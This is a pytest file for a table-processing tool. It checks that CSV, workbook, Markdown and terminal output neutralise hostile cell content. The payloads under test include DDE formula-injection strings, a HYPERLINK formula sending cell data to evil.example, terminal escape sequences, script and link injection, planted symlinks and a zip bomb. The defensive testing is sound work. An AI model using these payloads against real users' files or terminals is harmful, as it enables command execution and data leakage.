"""Outputs safe by construction (issue 13): CSV/TSV cells never formulas for a spreadsheet,
workbooks without the characters openpyxl refuses and with formula-like text as text,
Markdown that a cell cannot restructure, terminal text without escape sequences."""

from __future__ import annotations

import contextlib
import csv
import re

import pytest

from indicator_dsl.cli import main
from indicator_dsl.tables import BudgetBlock, Table, TableRow
from indicator_dsl.tables.io import read_tables, without_provenance, write_table_csv, write_table_xlsx
from indicator_dsl.tables.io.common import formula_guard, formula_unguard
from indicator_dsl.tables.report.markdown import findings_markdown, md_escape, table_markdown
from indicator_dsl.tables.score import score_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=6次",
    "-5%",
    "'=already quoted",
    "\x1b[31mred\x1b[0m",
    "| --- |",
    "# title",
    "[link](http://evil.example) ![img](http://evil.example/x.png) <script>alert(1)</script>",
    "www.evil.example and me@evil.example",
]
FORMULA_START = tuple("=+-@\t\r")


def _table(cells: list[str], tid: str = "t", project: str = "示例项目") -> Table:
    rows = tuple(TableRow(f"{tid}-r{i:02d}", "产出指标", "数量指标", c, "≥90%", "95%", "10", "10")
                 for i, c in enumerate(cells, start=1))
    return Table(tid, project, 2023, rows=rows, weight_total="100", score_total="100")


# ---------------------------------------------------------------------------
# CSV / TSV

@pytest.mark.parametrize("text", HOSTILE + ["+", "-", "@", "=", "''=x", "'x", "-5", "+3.5", "-1,200.00"])
def test_formula_guard_round_trips(text):
    guarded = formula_guard(text)
    assert formula_unguard(guarded) == text
    if guarded.startswith(FORMULA_START):  # only a plain number is left as it is
        assert re.fullmatch(r"[+-][\d,.]+%?", guarded)


@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_csv_and_tsv_cells_are_never_formulas_and_read_back(tmp_path, suffix):
    cells = [c for c in HOSTILE if "\x1b" not in c or suffix == "csv"]
    table = _table(cells, project="=HYPERLINK(\"http://evil.example\")")
    path = tmp_path / f"t.{suffix}"
    write_table_csv(table, path)
    with open(path, encoding="utf-8-sig", newline="") as f:
        grid = list(csv.reader(f, delimiter="," if suffix == "csv" else "\t"))
    for row in grid:
        for c in row:
            assert not c.startswith(FORMULA_START) or re.fullmatch(r"[+-][\d,.]+%?", c), c
    assert "'=cmd|' /C calc'!A0" in [c for row in grid for c in row]
    (back,), problems = read_tables(path)
    assert problems == []
    assert without_provenance(back) == without_provenance(table)


def test_a_published_csv_with_a_quoted_formula_reads_the_text(tmp_path):
    path = tmp_path / "p.csv"
    path.write_text("项目名称,示例\n一级指标,二级指标,三级指标,年度指标值,实际完成值,分值,得分\n"
                    "产出指标,数量指标,活动,'=6次,6次,10,10\n", encoding="utf-8")
    (t,), problems = read_tables(path)
    assert t.rows[0].target == "=6次"


# ---------------------------------------------------------------------------
# XLSX

def test_workbooks_drop_control_characters_and_keep_formula_text_as_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from indicator_dsl.tables.report.xlsx import write_xlsx

    cells = HOSTILE + ["a\x00b\x07c\x1fd", "lone \ud800 surrogate", "tab\tand\nbreak"]
    table = _table(cells, tid="t\x01x", project="示例\x0b项目")
    table_b = _table(cells, tid="b")
    table_b = Table("b", "项目", 2023, rows=table_b.rows,
                    budget=BudgetBlock("元", "=1+1", "100", "\x1b50", "10", "50%", "5"))
    for write in (lambda p: write_table_xlsx([table, table_b], p),
                  lambda p: write_xlsx([score_table(table), score_table(table_b)], p)):
        path = tmp_path / "w.xlsx"
        write(path)
        wb = openpyxl.load_workbook(path)
        values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        for c in values:
            assert c.data_type != "f", (c.coordinate, c.value)
            if isinstance(c.value, str):
                assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", c.value)
        texts = {c.value for c in values}
        assert "=cmd|' /C calc'!A0" in texts and "abcd" in texts and "lone \ufffd surrogate" in texts
        assert wb.worksheets[0].title == "tx"
        (back, _), problems = read_tables(path)
        assert problems == []
        assert back.project == "示例项目"


# ---------------------------------------------------------------------------
# Markdown

def _unescaped(line: str, ch: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*" + re.escape(ch), line))


def test_markdown_cells_cannot_add_headings_columns_or_links():
    table = _table(HOSTILE + ["a\nb\r\n# heading\n| x | y |"], project="p\n# injected heading\n[x](http://e)")
    md = table_markdown(score_table(table))
    lines = md.splitlines()
    assert [line for line in lines if line.startswith("#")] == [lines[0]]
    assert lines[0].startswith("## t ")
    rows = [line for line in lines if line.startswith("|")]
    assert len(rows) == 2 + len(table.rows)
    for line in rows:
        assert _unescaped(line, "|") == 9, line  # 8 columns, never more
        assert _unescaped(line, "[") == 0 and _unescaped(line, "<") == 0
        assert "://" not in line and "www." not in line and _unescaped(line, "@") == 0
    assert "\x1b" not in md
    assert "\\| --- \\|" in md and "# title" in md


def test_markdown_findings_are_escaped_too():
    from indicator_dsl.diagnostics import Diagnostic

    d = Diagnostic(severity="error", code="x", message="| a | b |\n# h [l](http://e)", source="=s", where="w|w")
    line = findings_markdown([d]).splitlines()[2]
    assert _unescaped(line, "|") == 8 and "://" not in line and _unescaped(line, "[") == 0


def test_md_escape_shows_the_text_as_it_is():
    assert md_escape("≥90.00(%)") == "≥90.00(%)"
    assert md_escape("a  b\n c") == "a b c"


# ---------------------------------------------------------------------------
# terminal

ESC = "\x1b[31m\x1b]0;owned\x07"


def test_parse_error_strips_escapes(capsys):
    assert main(["parse", ESC + "≥9O%"]) == 1
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in err


def test_find_and_eval_strip_escapes(capsys):
    main(["find", ESC + "不少于150名"])
    main(["eval", "--target", "≥90%", "--actual", ESC + "95%"])
    main(["eval", "--target", ESC + "≥9O%", "--actual", "95%"])
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err


def test_score_and_audit_strip_escapes(tmp_path, capsys):
    path = tmp_path / "t.csv"
    write_table_csv(_table(["\x1b[2J活动\x9b31m", "=6次"], project=ESC + "项目"), path)
    for cmd in (["score", str(path)], ["score", "--format", "md", str(path)], ["audit", str(path)]):
        main(cmd)
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err and "\x9b" not in out + err, cmd


def test_check_and_convert_strip_escapes(tmp_path, capsys):
    p = tmp_path / "bad.ind"
    p.write_text("名称：示例\x1b[31m\n年度：2025\n一级 产出指标\n  二级 数量指标\n    三级 培训\x1b[2J | ≥9O%\x07\n",
                 encoding="utf-8")
    main(["check", str(p)])
    main(["convert", str(p), "-o", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err


@pytest.mark.parametrize("argv", [
    ["score", ESC + "X"],                                   # a path that is not there
    ["parse", "≥90%", ESC + "X"],                           # unrecognized arguments, quoted raw by argparse
    ["score", "--format", ESC, "x"],                        # a bad choice
    ["parse", "--year", ESC + "23", "≥90%"],                # a bad value for a typed option
    ["parse", "--max-cell-chars", "\x9b2J", "≥90%"],        # a C1 control sequence
    [ESC + "score"],                                        # a bad command
    ["eval", "--target", "≥90%", "--ref", ESC + "=x"],      # a usage error a command finds (SystemExit)
    ["score", "--lang", "\x1b]0;owned\x07", "x"],
])
def test_usage_errors_do_not_echo_escape_sequences(argv, capsys):
    """argparse quotes the command line in its errors; they pass through terminal_safe as all output does."""
    usage = argv[:2] != ["score", ESC + "X"]  # a usage error exits (SystemExit), said safely first
    with pytest.raises(SystemExit) if usage else contextlib.nullcontext():
        main(argv)
    out, err = capsys.readouterr()
    assert err.strip(), argv  # the error is still said
    assert not re.search("[\x1b\x07\x9b]", out + err), (argv, err)


def test_usage_errors_through_a_real_process_do_not_echo_escapes():
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "indicator_dsl", "parse", "≥90%", "\x1b[31mX\x1b]0;t\x07"],
                          capture_output=True, timeout=120)
    assert done.returncode == 2
    assert b"unrecognized arguments" in done.stderr and b"\x1b" not in done.stderr and b"\x07" not in done.stderr


# ---------------------------------------------------------------------------
# file system: planted symbolic links, duplicate ids

def _planted(tmp_path, name):
    outside = tmp_path / "outside.txt"
    outside.write_text("precious", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(outside)
    return out, outside


@pytest.mark.parametrize("to, suffix", [(None, ".ind"), ("csv", ".csv"), ("tsv", ".tsv"), ("xlsx", ".xlsx"), ("json", ".json")])
def test_convert_never_writes_through_a_planted_symlink(tmp_path, capsys, to, suffix):
    src = tmp_path / "t.csv"
    write_table_csv(_table(["活动"], tid="victim"), src)
    out, outside = _planted(tmp_path, "t" + suffix)
    argv = ["convert", str(src), "-o", str(out)] + (["--to", to] if to else [])
    assert main(argv) == 0
    assert outside.read_text(encoding="utf-8") == "precious"
    written = out / ("t" + suffix)
    assert written.is_file() and not written.is_symlink()
    assert sorted(p.name for p in out.iterdir()) == ["t" + suffix]  # no temporary left behind
    if to is not None:
        assert main(["convert-table", str(src), str(out), "--to", to]) == 0
        assert outside.read_text(encoding="utf-8") == "precious"


def test_a_named_output_file_that_is_a_symlink_is_replaced(tmp_path, capsys):
    src = tmp_path / "t.csv"
    write_table_csv(_table(["活动"]), src)
    for name in ("one.ind", "one.xlsx", "one.csv", "one.json"):
        outside = tmp_path / "outside.txt"
        outside.write_text("precious", encoding="utf-8")
        link = tmp_path / name
        link.symlink_to(outside)
        assert main(["convert", str(src), "-o", str(link)]) == 0
        assert outside.read_text(encoding="utf-8") == "precious" and not link.is_symlink()


def test_corpus_output_replaces_planted_symlinks(tmp_path):
    from indicator_dsl.tables.io import write_tables

    out, outside = _planted(tmp_path, "tables_indicators.tsv")
    write_tables([_table(["活动"], tid="s1-t1")], out, "corpus")
    assert outside.read_text(encoding="utf-8") == "precious"
    assert (out / "tables_indicators.tsv").is_file() and not (out / "tables_indicators.tsv").is_symlink()


@pytest.mark.parametrize("to", [None, "csv", "xlsx", "json"])
def test_two_tables_with_one_id_get_distinct_files_and_a_note(tmp_path, capsys, to):
    from indicator_dsl.tables.io import write_tables_json

    src = tmp_path / "two.jsonl"
    write_tables_json([_table(["甲"], tid="dup"), _table(["乙"], tid="dup"), _table(["丙"], tid="DUP")], src)
    out = tmp_path / "out"
    assert main(["convert", str(src), "-o", str(out)] + (["--to", to] if to else [])) == 0
    o, err = capsys.readouterr()
    suffix = "." + (to or "ind")
    assert sorted(p.name for p in out.iterdir()) == sorted(["dup" + suffix, "dup~2" + suffix, "DUP~3" + suffix])
    assert o.split() == [str(out / n) for n in ("dup" + suffix, "dup~2" + suffix, "DUP~3" + suffix)]
    assert err.count("note:") == 2 and "dup~2" + suffix in err
    from indicator_dsl.reading import read_tables as read_all

    tables, problems = read_all(out)
    assert problems == []
    assert sorted(t.rows[0].level3 for t in tables) == ["丙", "乙", "甲"]


# ---------------------------------------------------------------------------
# limits in the table readers: file bytes, a workbook's decompressed bytes

def test_a_workbook_that_decompresses_beyond_the_limit_is_refused_from_its_zip_directory(tmp_path, capsys):
    import time
    import zipfile

    from indicator_dsl.limits import Limits

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as f:
            for _ in range(64):
                f.write(b"\0" * (1 << 20))  # 64 MiB of zeros, about 64 kB compressed
    start = time.monotonic()
    tables, problems = read_tables(bomb, limits=Limits(workbook_bytes=16 << 20))
    assert time.monotonic() - start < 1
    assert tables == [] and [p.code for p in problems] == ["R110"] and "decompresses" in problems[0].message
    assert main(["score", "--max-workbook-bytes", str(16 << 20), str(bomb)]) == 2
    assert "R110" in capsys.readouterr().err


def test_a_file_beyond_file_bytes_is_that_files_problem(tmp_path, capsys):
    from indicator_dsl.limits import Limits

    good, big = tmp_path / "good.csv", tmp_path / "big.csv"
    write_table_csv(_table(["甲"]), good)
    write_table_csv(_table(["乙" * 2000]), big)
    tables, problems = read_tables([good, big], limits=Limits(file_bytes=2000))
    assert [t.rows[0].level3 for t in tables] == ["甲"]
    assert [(p.code, p.source) for p in problems] == [("R110", str(big))]
    assert main(["audit", "--max-file-bytes", "2000", str(good), str(big)]) == 2
    assert main(["convert-table", "--max-file-bytes", "2000", str(big), str(tmp_path / "o.json")]) == 2
